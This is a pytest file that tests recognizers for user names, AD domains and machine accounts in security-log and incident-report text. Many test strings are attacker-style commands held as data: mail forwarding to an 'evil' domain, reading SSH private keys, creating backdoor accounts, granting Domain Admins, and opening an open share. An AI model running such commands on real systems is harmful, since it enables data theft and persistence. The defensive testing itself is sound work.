import pytest

from recognizers.accounts import AccountRecognizer, MachineAccountRecognizer

from .helpers import hits

ACC = AccountRecognizer()


@pytest.mark.parametrize("text, expected", [
    (r"ACMEBANK\jdoe logged on", {("AD_DOMAIN", "ACMEBANK"), ("USERNAME", "jdoe")}),
    (r'"CORP\\svc_sql"', {("AD_DOMAIN", "CORP"), ("USERNAME", "svc_sql")}),
    ("ssh jdoe@fs01 -p 22", {("USERNAME", "jdoe"), ("HOSTNAME", "fs01")}),
    (r"C:\Users\elena.petrova\Desktop", {("USERNAME", "elena.petrova")}),
    ("/home/mwebb/.bash_history", {("USERNAME", "mwebb")}),
    ("---\ntitle: IR-2024-031\nreviewers: [jhansen, praman]\napprovers: [l.eriksen]\n---",
     {("USERNAME", "jhansen"), ("USERNAME", "praman"), ("USERNAME", "l.eriksen")}),
    ('New-InboxRule -Mailbox maria.berg -Name "." -ForwardTo billing@evil-mail.ru\n'
     "Add-MailboxPermission -Identity 'jhansen' -User mberg -AccessRights FullAccess",
     {("USERNAME", "maria.berg"), ("USERNAME", "jhansen"), ("USERNAME", "mberg")}),
    # auditd's enriched names; systemd-logind
    ('type=USER_LOGIN msg=audit(1715584364.123:4412): pid=2231 uid=0 auid=1003 ses=12 UID="root" AUID="jhansen"',
     {("USERNAME", "jhansen")}),
    ("May 13 09:12:50 bastion01 systemd-logind[812]: New session 12 of user mberg.\nStarted Session c3 of User praman.",
     {("USERNAME", "mberg"), ("USERNAME", "praman")}),
    # a home or profile share; an account beside its SID (wmic useraccount get name,sid)
    (r"H:\ mapped to \\hbfs01.hb.local\home$\mberg; \\fs01\Users\jhansen\Desktop, \\fs\profiles$\praman.V6\x",
     {("USERNAME", "mberg"), ("USERNAME", "jhansen"), ("USERNAME", "praman")}),
    ("Name           SID\nAdministrator  S-1-5-21-1004336348-1177238915-682003330-500\n"
     "mberg          S-1-5-21-1004336348-1177238915-682003330-1104\n", {("USERNAME", "mberg")}),
    ("cat ~mkowalczyk/.ssh/id_rsa", {("USERNAME", "mkowalczyk")}),
    ("TargetUserName=tnowak ", {("USERNAME", "tnowak")}),
    ('"userName": "hb-ci-deployer"', {("USERNAME", "hb-ci-deployer")}),
    ("Account Name:  jsmith", {("USERNAME", "jsmith")}),
    ("service svc_backup ran", {("USERNAME", "svc_backup")}),
    ("the user 'ops.bot' ran", {("USERNAME", "ops.bot")}),
    # user names are not only ASCII
    (r"C:\Users\Øystein\Desktop", {("USERNAME", "Øystein")}),
    (r"HALVORSEN\jürgen.weiß logged on", {("AD_DOMAIN", "HALVORSEN"), ("USERNAME", "jürgen.weiß")}),
    ("TargetUserName=ødegård ", {("USERNAME", "ødegård")}),
    ("ssh jürgen@wäscher01", {("USERNAME", "jürgen"), ("HOSTNAME", "wäscher01")}),
    ("service svc_müller ran", {("USERNAME", "svc_müller")}),
    ("TargetUserName=bjo\u0308rn.a\u030as ", {("USERNAME", "bjo\u0308rn.a\u030as")}),   # decomposed
    # Windows events as XML and as text: the user and the AD domain
    ('<Data Name="TargetUserName">mkowalczyk</Data><Data Name="TargetDomainName">CONTOSO</Data>',
     {("USERNAME", "mkowalczyk"), ("AD_DOMAIN", "CONTOSO")}),
    ("<SubjectUserName>bthompson</SubjectUserName>", {("USERNAME", "bthompson")}),
    ("\tAccount Name:\t\tmkowalczyk\n\tAccount Domain:\t\tCONTOSO\n", {("USERNAME", "mkowalczyk"), ("AD_DOMAIN", "CONTOSO")}),
    ("CEF:0|x|y|1|4624|logon|3|duser=kpatel dntdom=HBANK", {("USERNAME", "kpatel"), ("AD_DOMAIN", "HBANK")}),
    # sshd, PAM and sudo
    ("sshd[2231]: Accepted publickey for rjohnson from 10.1.2.3 port 51234 ssh2", {("USERNAME", "rjohnson")}),
    ("sshd[2231]: Failed password for m.rossi from 45.155.205.233 port 22", {("USERNAME", "m.rossi")}),
    ("pam_unix(sshd:session): session opened for user dchen(uid=1001) by (uid=0)", {("USERNAME", "dchen")}),
    ("sudo:  kpatel : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash", {("USERNAME", "kpatel")}),
    # in prose, and a web server's access log
    ("The VPN username was jdoe and the password was reset.", {("USERNAME", "jdoe")}),
    ("his user ID is t.nguyen7", {("USERNAME", "t.nguyen7")}),
    ('10.0.0.5 - jsmith [02/Mar/2024:11:22:33 +0000] "GET /hr/ HTTP/1.1" 200 5120', {("USERNAME", "jsmith")}),
    # Defender/Sentinel and ECS field names, JSON objects, mimikatz output
    ("InitiatingProcessAccountName: mkowalczyk | InitiatingProcessAccountDomain: contoso",
     {("USERNAME", "mkowalczyk"), ("AD_DOMAIN", "contoso")}),
    ("RequestAccountName=jdoe ServiceName=krbtgt", {("USERNAME", "jdoe")}),
    ('{"user.name":"m.rossi","process.name":"rundll32.exe"}', {("USERNAME", "m.rossi")}),
    ('{"user": {"name": "mkowalczyk", "domain": "CONTOSO"}}', {("USERNAME", "mkowalczyk"), ("AD_DOMAIN", "CONTOSO")}),
    ("  * Username : adm_kowalczyk\n  * Domain   : CONTOSO\n  * Password : (null)",
     {("USERNAME", "adm_kowalczyk"), ("AD_DOMAIN", "CONTOSO")}),
    # a handle after "user"/"account" in prose
    ("VPN logs show the account j.smith1 connecting", {("USERNAME", "j.smith1")}),
    ("the user m_rossi and user kpatel2 logged on", {("USERNAME", "m_rossi"), ("USERNAME", "kpatel2")}),
    # Cisco ASA, a whoami transcript (lower case, which DOMAIN\\user alone refuses), net user
    ("%ASA-4-722051: Group <SSL-VPN-Users> User <mkowalczyk> IP <203.0.113.5>", {("USERNAME", "mkowalczyk")}),
    # ASA identity firewall: the user after the mapped address; LOCAL (the firewall's own database) stays
    ("%ASA-6-302013: Built outbound TCP connection 123 for outside:185.174.101.22/443 (185.174.101.22/443) "
     "to inside:10.14.2.9/52344 (10.14.2.9/52344) (LOCAL\\mberg)", {("USERNAME", "mberg")}),
    ("for outside:185.1.2.3/443 (185.1.2.3/443)(corp\\j.hansen) to", {("AD_DOMAIN", "corp"), ("USERNAME", "j.hansen")}),
    # a ticket's people as handles; a lower-case DOMAIN\\user after "user"
    ("Reporter: mberg\nAssignee: l.eriksen\nWatchers: jhansen, praman\nOpened by: lerik",
     {("USERNAME", "mberg"), ("USERNAME", "l.eriksen"), ("USERNAME", "jhansen"), ("USERNAME", "praman"), ("USERNAME", "lerik")}),
    ("GlobalProtect: user hb\\mberg connected from 185.174.101.22", {("AD_DOMAIN", "hb"), ("USERNAME", "mberg")}),
    ("C:\\> whoami\ncorp\\tnowak\nC:\\> whoami /all\n  hb-ws-0231\\localadmin  \n",
     {("AD_DOMAIN", "corp"), ("USERNAME", "tnowak"), ("AD_DOMAIN", "hb-ws-0231"), ("USERNAME", "localadmin")}),
    ("User Name   SID\n=========== ======\ncorp\\m.kowalczyk S-1-5-21-3623811015-3361044348-30300820-1013",
     {("AD_DOMAIN", "corp"), ("USERNAME", "m.kowalczyk")}),
    # Sysmon `User:` with a lower-case domain in front; a connection string's `User Id`
    ("User: corp\\jdoe\nParentUser: hb\\\\svc_backup", {("AD_DOMAIN", "corp"), ("USERNAME", "jdoe"),
                                                    ("AD_DOMAIN", "hb"), ("USERNAME", "svc_backup")}),
    ("Server=sql01;Database=Payments;User Id=app_pay;Password=x;", {("USERNAME", "app_pay")}),
    ("Affected accounts: jdoe, a.smith, mkowalczyk and svc_backup.\nDisabled accounts: rjohnson (reset), kpatel",
     {("USERNAME", v) for v in ("jdoe", "a.smith", "mkowalczyk", "svc_backup", "rjohnson", "kpatel")}),
    ("Affected users: mberg and praman.", {("USERNAME", "mberg"), ("USERNAME", "praman")}),   # after `and`: the list's own
    # last/who, a PowerShell prompt; the domain in front of a built-in account or group
    ("mkowalcz pts/0        10.14.7.88       Mon Mar  4 10:02   still logged in\n"
     "reboot   system boot  5.15.0-91-generi Mon Mar  4 08:00\njdoe     tty7         2024-03-04 10:02 (:0)",
     {("USERNAME", "mkowalcz"), ("USERNAME", "jdoe")}),
    ("PS C:\\Users\\mkowalczyk> Get-LocalGroupMember Administrators", {("USERNAME", "mkowalczyk")}),
    ("CORP\\Administrator; HB\\Domain Admins; ACMEBANK\\Enterprise Admins",
     {("AD_DOMAIN", "CORP"), ("AD_DOMAIN", "HB"), ("AD_DOMAIN", "ACMEBANK")}),
    # net config workstation, klist, quser
    ("User name                            mkowalczyk\nWorkstation domain                   HB\n"
     "Logon domain                         HB\n", {("USERNAME", "mkowalczyk"), ("AD_DOMAIN", "HB")}),
    ("#0>     Client: jdoe @ HB.LOCAL\n        Server: krbtgt/HB.LOCAL @ HB.LOCAL", {("USERNAME", "jdoe")}),
    (" USERNAME    SESSIONNAME  ID  STATE\n>mkowalczyk  console       1  Active\n rjohnson    rdp-tcp#3  2  Active\n"
     " kpatel                    3  Disc", {("USERNAME", "mkowalczyk"), ("USERNAME", "rjohnson"), ("USERNAME", "kpatel")}),
    ("scp backup.tar.gz deploy@10.0.5.20:/tmp/ && ssh -i k ops.bot@192.168.4.7", {("USERNAME", "deploy"), ("USERNAME", "ops.bot")}),
    ("C:\\> net user rpatel /domain\n$ net1 user j.doe", {("USERNAME", "rpatel"), ("USERNAME", "j.doe")}),
    # Squid's access log; CrowdStrike's machine domain
    ("1709632364.123    512 10.20.5.77 TCP_MISS/200 4521 GET http://evil-cdn.com/a.bin mberg HIER_DIRECT/185.220.101.4 -",
     {("USERNAME", "mberg")}),
    ("ComputerName=FINWS042 UserName=mberg MachineDomain=CORP", {("USERNAME", "mberg"), ("AD_DOMAIN", "CORP")}),
    # a database client's user, in each client's spelling; its built-in accounts stay
    ("mysql -h db-prod-02 -u app_ro -pS3cr3t payroll; mysqldump -uetl_svc x", {("USERNAME", "app_ro"), ("USERNAME", "etl_svc")}),
    ("psql -U hr_report --host pg01; mongosh --username reporting_ro; sqlcmd -S SQL01 -U sa -P x",
     {("USERNAME", "hr_report"), ("USERNAME", "reporting_ro")}),
    ("mysql -u root -p; psql -U postgres -h 10.1.2.3", set()),
    # the M365 audit log's user key, Google Workspace's profile ID
    ('{"UserKey": "i:0h.f|membership|10032000a1b2c3d4@live.com", "actor": {"profileId": "114512345678901234567"}}',
     {("USERNAME", "10032000a1b2c3d4"), ("USERNAME", "114512345678901234567")}),
    # prose that names our AD domain
    ("disabled mberg in AD (HALVORSEN); the AD domain HB was trusted; Active Directory domain: CORP-EU",
     {("AD_DOMAIN", "HALVORSEN"), ("AD_DOMAIN", "HB"), ("AD_DOMAIN", "CORP-EU")}),
    ("AD CS was abused (ESC8), AD FS tokens forged, AD LDS, AD (Active Directory), an AD GPO; AD OK; AD DONE", set()),
    # QRadar's LEEF: tab-separated keys of its own
    ("LEEF:2.0|Microsoft|Windows|10|4624|devTime=May 11 2024\tusrName=mberg\tdomain=HALVORSEN\tsrc=10.14.37.48",
     {("USERNAME", "mberg"), ("AD_DOMAIN", "HALVORSEN")}),
    ("the domain=evil.com field; LEEF:2.0|x|y|1|2|\tdomain=evil-cdn.com\tdomain=none", set()),
    # a plain handle after user/account, then what a user does
    ("VPN: user mberg connected from 185.174.101.22; the account jhansen was disabled", {("USERNAME", "mberg"),
                                                                                    ("USERNAME", "jhansen")}),
    ("the user account was locked; user interaction is required; user input was parsed; the user cannot log in; "
     "account lockout was set; user mimikatz ran; the storage account hbprodsa was public; bank account nordea was", set()),
    # `id`'s output; Unix commands that name an account
    ("uid=1003(jhansen) gid=1003(jhansen) groups=1003(jhansen),27(sudo)", {("USERNAME", "jhansen")}),
    ("$ su - mberg\nsudo passwd jhansen; usermod -aG sudo svc_etl && chown -R dokafor:finance /srv\n"
     "crontab -u lfischer -l; sudo -u praman bash; useradd -m -s /bin/bash backdoor1",
     {("USERNAME", "mberg"), ("USERNAME", "jhansen"), ("USERNAME", "svc_etl"), ("USERNAME", "dokafor"),
      ("USERNAME", "lfischer"), ("USERNAME", "praman"), ("USERNAME", "backdoor1")}),
    ("su - root; chown root:root /etc/shadow; sudo -u www-data id; the passwd file; usermod was used; su -c 'id'\n"
     "We changed the passwd command; ps -u and chown failed", set()),
    # a Windows tool's remote switches; KQL's comparisons
    ("schtasks /query /s FINSQL01 /u mberg /p x; tasklist /S h /U HALVORSEN\\jhansen; wevtutil qe Security /r:h /u:svc_etl",
     {("USERNAME", "mberg"), ("AD_DOMAIN", "HALVORSEN"), ("USERNAME", "jhansen"), ("USERNAME", "svc_etl")}),
    ('DeviceLogonEvents | where AccountName =~ "mberg" or InitiatingProcessAccountName != "jhansen"',
     {("USERNAME", "mberg"), ("USERNAME", "jhansen")}),
    ("schtasks /create /tn Updater /tr x.exe /sc daily /ru SYSTEM; the user /u switch; tasklist /svc", set()),
    # a label and its value without a colon, in an exported alert
    ("Hostname FINWS042, User Name mberg, Local IP 10.14.37.48\nUsername jhansen;\nAccount Name svc_sql",
     {("USERNAME", "mberg"), ("USERNAME", "jhansen"), ("USERNAME", "svc_sql")}),
    ("Check the user name field, then the account name changed; the login name Administrator", set()),
    # a ticket export's fields (a person's name there is the name rules')
    ('{"opened_by": "maria.berg", "caller_id": "Maria Berg", "sys_updated_by": "system"}\n'
     "assigned_to=unassigned opened_by=admin resolved_by=jhansen closed_by=", {("USERNAME", "maria.berg"),
                                                                             ("USERNAME", "jhansen")}),
    # Remote Desktop's event 1149; qwinsta (session, then user)
    ("Remote Desktop Services: User authentication succeeded:\nUser: mberg\nDomain: HALVORSEN\n"
     "Source Network Address: 10.14.37.48", {("USERNAME", "mberg"), ("AD_DOMAIN", "HALVORSEN")}),
    (" SESSIONNAME       USERNAME                 ID  STATE   TYPE        DEVICE\n services     0  Disc\n"
     ">rdp-tcp#3         mberg                     2  Active\n console           jhansen   1  Active",
     {("USERNAME", "mberg"), ("USERNAME", "jhansen")}),
    ("Indicators:\nDomain: evil-cdn.com\nDomain: N/A\nDomain: Workgroup", set()),
    # ls -l's owner, ps's user (built-in ones stay)
    ("-rw-r----- 1 mberg    finance  40960 May 11 10:02 salaries.xlsx\n"
     "drwxr-x--- 2 root root 4096 May 10 18:15 etc\nlrwxrwxrwx. 1 svc_etl finance 7 May 10 x -> y",
     {("USERNAME", "mberg"), ("USERNAME", "svc_etl")}),
    ("USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
     "mberg     4412  0.3  1.2 123456 45678 ?  S  10:02  0:01 python3 agent.py\n"
     "root         1  0.0  0.1 167000 11000 ?  Ss May10  0:03 /sbin/init\n"
     "UID PID PPID C STIME TTY TIME CMD\njhansen  4501  4412  0 10:02 pts/0 00:00:00 bash",
     {("USERNAME", "mberg"), ("USERNAME", "jhansen")}),
    ("-rw-r--r-- file.txt and 1 2 3 4 rows; 2024 1 2.0 3.0 4 5 values\n13975 320 54780 12 14659 3 19343 1\n"
     "1001 4412 0.3 1.2 123456 45678 ? S\n-rw-r--r-- 1 1001 1001 40960 May 11 x", set()),
    # a bare handle, then a logon and where from
    ("Can you check whether kjnordmann logged in from 185.234.218.44? mberg signed in to OWA, "
     "svcsql01 authenticated via NTLM",
     {("USERNAME", "kjnordmann"), ("USERNAME", "mberg"), ("USERNAME", "svcsql01")}),
    # a victim's path beside a sample's debug path: only the line that goes on to the `.pdb` is the build machine's
    ("PDB path of the loader:\nran C:\\Users\\mberg\\Downloads\\inv.exe\nC:\\Users\\dev\\src\\Release\\ldr.pdb",
     {("USERNAME", "mberg")}),
    # event 4720's headings over its fields: the accounts, not the next field's label
    ("A user account was created.\nSubject:\n\tAccount Name:\t\tadm-oknudsen\n\tAccount Domain:\t\tFJE\n"
     "New Account:\n\tAccount Name:\t\tsvc_update\n\tAccount Domain:\t\tFJE\n",
     {("USERNAME", "adm-oknudsen"), ("USERNAME", "svc_update"), ("AD_DOMAIN", "FJE")}),
    # an account and its SID, told in prose
    ("whoami /all on the host showed fjellheim\\ohaugen with SID S-1-5-21-1004336348-1177238915-682003330-2231; "
     "corp\\mberg (SID: S-1-5-21-1-2-3-1105)",
     {("AD_DOMAIN", "fjellheim"), ("USERNAME", "ohaugen"), ("AD_DOMAIN", "corp"), ("USERNAME", "mberg")}),
    # an AWS IAM user, in prose and in the AWS CLI; not a word after `IAM user`
    ("an access key for IAM user fje-ci-deploy (AKIAQXZ4EXAMPLE7IDXY); aws iam create-access-key --user-name svc.backup; "
     "IAM user accounts; an IAM user with console access; IAM user \"olaknudsen\".",
     {("USERNAME", "fje-ci-deploy"), ("USERNAME", "svc.backup"), ("USERNAME", "olaknudsen")}),
    # an Entra-joined device's account (its domain is Microsoft's, no one's), a Microsoft account's logon
    ("User: AzureAD\\OlaKnudsen logged on; User: MicrosoftAccount\\ola.knudsen@outlook.com; AzureAD\\Administrator",
     {("USERNAME", "OlaKnudsen"), ("USERNAME", "ola.knudsen@outlook.com")}),
    # the ActiveDirectory module's cmdlets: the account acted on, and the members added to a group
    ("PS C:\\> Get-ADUser -Identity kjnordmann -Properties *\nGet-ADUser mberg -Properties MemberOf\n"
     "Set-ADAccountPassword -Reset -Identity 'svc_sql' -NewPassword $p\n"
     "Add-ADGroupMember -Identity \"Domain Admins\" -Members a.holm,\"r.dahl\", svc-bkp",
     {("USERNAME", "kjnordmann"), ("USERNAME", "mberg"), ("USERNAME", "svc_sql"), ("USERNAME", "a.holm"),
      ("USERNAME", "r.dahl"), ("USERNAME", "svc-bkp")}),
])
def test_account_hits(text, expected):
    assert hits(ACC, text) == expected


@pytest.mark.parametrize("text", [
    r"C:\Windows\System32\cmd.exe", r"HKLM\Software\Microsoft", r"NT AUTHORITY\SYSTEM",
    "user=Administrator", "Account Name: -", r"BUILTIN\Administrators", "mkdir -p /tmp/x",
    "root@web01", r"a\nb escape", "sid=S-1-5-18",
    'Set-Mailbox -Identity "Jonas Hansen" -ForwardingSmtpAddress smtp:x@y.com', "Get-Mailbox -Identity maria.berg@x.com",
    "Get-Process -Name x -User mberg", "Add-MailboxPermission -Identity Administrator -User 'NT AUTHORITY\\SYSTEM'",
    "auid=1003 euid=0 ouid=1001 fsuid=0", "a new session of user accounts",     "author: frack113", "reviewers: [Security Team]", "maintainers: [admin, root]", "reviewers: []",     r"\\fs01\home$", r"\\fs01\homes\Public\x", r"\\fs01\share\mberg", r"\\fs01\users\Administrator\x",
    "Domain Users   S-1-5-21-1004336348-1177238915-682003330-513", "krbtgt  S-1-5-21-1-2-3-502",
    "mberg S-1-5-21-1-2-3-1104 logged on",
    r"HARDWARE\DESCRIPTION\System", r'"Global\\ShellHWDetectionEvent"', r"NT\CurrentVersion",
    r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Drivers32",
    "Contact@Us", "Jürgen@web01", r"Übersicht\Größe", r"C:\Windows\Système32",
    # the attacker's guesses and built-in accounts; prose about user names; an anonymous web request
    "Failed password for invalid user admin from 45.155.205.233 port 22",
    "Failed password for root from 45.155.205.233 port 22", "session opened for user root(uid=0) by (uid=0)",
    "Accepted password for ubuntu from 10.0.0.1 port 22", "the user name was changed", "the user name is case-sensitive",
    '45.155.205.233 - - [02/Mar/2024:11:22:33 +0000] "GET /wp-login.php HTTP/1.1" 404 0',
    '{"user": {"name": "SYSTEM", "domain": "NT AUTHORITY"}}', '{"file": {"name": "invoice.zip"}}',
    "the user agent was curl; account takeover of user v2.1; user win32 api; account AS37963; user x64",
    "user evil.com; account invoice.zip; user 42; user Mozilla/5.0",
    "cat ~/.ssh/id_rsa ~root/.bashrc", r"C:\PROGRA~1\x", "a ~5/10 chance",
    "http://cs.berkeley.edu/~mavam/cw/paper.pdf",   # a web page's path, not a shell's home
    "The vBulletin forum username is stored in hex", "the user ID was hashed",
    # ASA masks a failed name; HTML; SYSTEM; an account the attacker adds; net user without a name
    "AAA user authentication Rejected : user = ***** : user IP = 203.0.113.9", "User <*****> IP <1.2.3.4>",
    "the user <b>name</b> and account <code>x</code>", "C:\\> whoami\nnt authority\\system\n",
    "on ors.organization_id=t.organization_id and ors.user_id=tr.user_id",   # SQL
    "Affected users: Marketing, Sales and Finance.", "Accounts: Contoso; Users: John Smith, Anna Berg",
    "Username: admin", "Users: all", "Accounts: 3 disabled",
    "User name                            Administrator", ">  see the quoted text   1 above",
    "User: NT AUTHORITY\\SYSTEM", "user=C:\\Users\\Public", "UserId: 4", "User ID=1001",
    "ssh kali@185.220.101.4", "ssh root@10.0.0.5", "mail j@10.0.0.5.example", "a.b@10.1.2.3.4",
    "net user backdoor P@ssw0rd! /add", "net user administrator", "net user /domain", "User <Administrator>",
    "Assignee: unassigned", "Owner: soc", "Assigned to: it", "Assigned to: me", "Reported by: system",
    "Upgraded to: v2.1", "Mapped to: t1059.001", "due to: rollback", "Assignee: Maria Berg",   # a name: people rules
    "user sys\\drivers", "account nt authority\\system",
    '{"request": {"uid": "c3db49f8-1834-48e3-b9e6-cc20e12e5738", "kind": {"group": ""}}}',   # a k8s request's UID
    "xfish@hotmailTcom VerySign@CeleWareTNET",   # a PDF's garbled mail addresses (`.` printed as `T`)
    '$STR3 = "y0uar3@s!llyid!07,ou74n60u7f001"', "pw lab@x!2024",   # a password in a YARA rule, not user@host
    # placeholders
    r"ex. “C:\Users\USERNAME\AppData\Roaming”", r"C:\Users\YourName\Desktop", "/home/username/.ssh",
    # who logged in, not a handle: words, jargon, a malware family that connects
    "nobody logged in from there; the attacker logged on to DC01; someone signed in from Tor; mimikatz logged on "
    "to lsass; gootkit connected to 1.2.3.4; they authenticated via NTLM; Maria logged in from home",
    # a sample's debug path: the attacker's build machine (an indicator)
    r"install.exe: c:\Users\aa\Documents\Visual Studio 2008\Projects\x\Release\install.pdb",
    # `x@y` inside an encoded payload quoted in a report
    '~cN[mUHO^M;T<B$Yr@5Xjzyu_6OcR%#u^#z(Wj|,l1OQ?`Y`3&:yP6jr`pq&j@oTj!%DX)"ZwG8uU!xHk$Dl="P8>gi2|Jv{P)d@)|b3XM62haQJQQD0L5'
    'RqsPVhY7hIrW~?".0:F9[)V@A^9CY?p1m3tCsi+|0N^*+[kFShKQE',
    "(10.1.2.3/80) (NT AUTHORITY\\SYSTEM)", "(10.1.2.3/80) (LOCAL\\admin)", "(10.1.2.3/80) (mberg)",
    "nt authority\\system S-1-5-18", "NT AUTHORITY\\LOCAL SERVICE  S-1-5-19",
    "1709632364.123    512 10.20.5.77 TCP_DENIED/403 4521 GET http://evil-cdn.com/a.bin - HIER_NONE/- text/html",
    # AD cmdlets on no account of ours: built in, a variable, a filter, a DN, a new account, a computer, a group
    "Get-ADUser -Identity Administrator; Get-ADUser -Filter * ; Get-ADUser $u; New-ADUser -Name backdoor; "
    "Get-ADComputer -Identity FJE-LT-0231; Get-ADUser -Identity \"CN=Maria Berg,OU=Users,DC=x,DC=local\"",
    "Add-ADGroupMember -Identity \"Domain Admins\" -Members $u; Get-ADGroup -Identity x -Members y",
])
def test_account_near_misses(text):
    assert {h for h in hits(ACC, text) if h[0] == "USERNAME"} == set()


@pytest.mark.parametrize("text", [   # a registry hive, short or long, is no AD domain
    r"HKEY_USERS\S-1-5-21-1004336348-1177238915-682003330-1105\Software", r"Registry::HKEY_USERS\S-1-5-18",
    r"HKEY_CURRENT_USER\Environment", r"HKEY_CLASSES_ROOT\mscfile\shell\open\command", r"HKU\.DEFAULT",
    r"HKEY_LOCAL_MACHINE\SAM\Domains", r"HKEY_CURRENT_CONFIG\System",
])
def test_registry_hive_is_no_domain(text):
    assert hits(ACC, text) == set()


@pytest.mark.parametrize("text", [
    "Account Domain:\t\tNT AUTHORITY", "Account Domain: -", "Account Domain: Window Manager",
    "Account Domain: Font Driver Host", '<Data Name="SubjectDomainName">WORKGROUP</Data>',
    "Account Domain: BUILTIN", "Account Domain: corp.example.com",   # an FQDN: the domain rules' business
    "Assignee: unassigned", "Owner: soc", "Assigned to: it", "Assigned to: me", "Reported by: system",
    "Upgraded to: v2.1", "Mapped to: t1059.001", "due to: rollback", "Assignee: Maria Berg",   # a name: people rules
    "user sys\\drivers", "account nt authority\\system",
    "(10.1.2.3/80) (NT AUTHORITY\\SYSTEM)", "(10.1.2.3/80) (LOCAL\\admin)", "(10.1.2.3/80) (mberg)",
    "nt authority\\system S-1-5-18", r"NT SERVICE\MSSQLSERVER S-1-5-80-3880718306-3832830129",
    r"WINDOWS\System", r"SAM\Domains", r"HKIU\Network and", r"HKIU\Software\Adobe", r"CORP\Domain Name", r"SOFTWARE\Microsoft",
    "@LogonDomain: Logon Domain.", "@LogonDNSDomain: Logon DNS Domain.",      # field documentation
])
def test_domain_field_near_misses(text):
    assert {h for h in hits(ACC, text) if h[0] == "AD_DOMAIN"} == set()


def test_machine_account_is_a_host():
    assert hits(MachineAccountRecognizer(), "TargetUserName=FIN-WS-0231$ ") == {("HOSTNAME", "FIN-WS-0231")}
    assert hits(MachineAccountRecognizer(), "TargetUserName=IŞIK-WS-02$ ") == {("HOSTNAME", "IŞIK-WS-02")}
    assert hits(MachineAccountRecognizer(), "rootbsd@alien:~/APT1$ cat list_ip.txt") == set()   # a shell prompt
    # the console's devices, a hidden share being made (`net share`)
    assert hits(MachineAccountRecognizer(), 'CreateFile("CONIN$") and "CONOUT$"') == set()
    assert hits(MachineAccountRecognizer(), "cmd.exe /q /c net share shared$=%SystemRoot% /GRANT:everyone,FULL") == set()
    assert hits(MachineAccountRecognizer(), "net user FINWS42$ /domain") == {("HOSTNAME", "FINWS42")}


def test_no_machine_account_inside_an_encoded_payload():
    blob = ('>|OiwPed%$BtfdK<l,2|Jv{P)d@)|b3XM62haQJQQD0L5RqsPVhY7hIrW~?".0:F9[)V@A^9CY?p1m3tCsi+|0N^*+[kFShKQE~cN'
            '[mUHO^M;T<B$Yr@5Xjzyu_6OcR%#u^#z(Wj|,xf0vI6d$,l1OQ?`Y`3&:yP6jr`pq&j@oTj!%DX)"ZwG8uU!xHk$Dl="P8>gi')
    assert hits(MachineAccountRecognizer(), blob) == set()
    # minified JSON is long without a space too, but not random: its machine account stays found
    js = '{"TimeCreated":"2024-05-11T09:02:11Z","EventID":4624,"TargetUserName":"FINWS42$","TargetDomainName":"HALVORSEN","IpAddress":"10.14.2.9"}'
    assert hits(MachineAccountRecognizer(), js) == {("HOSTNAME", "FINWS42")}
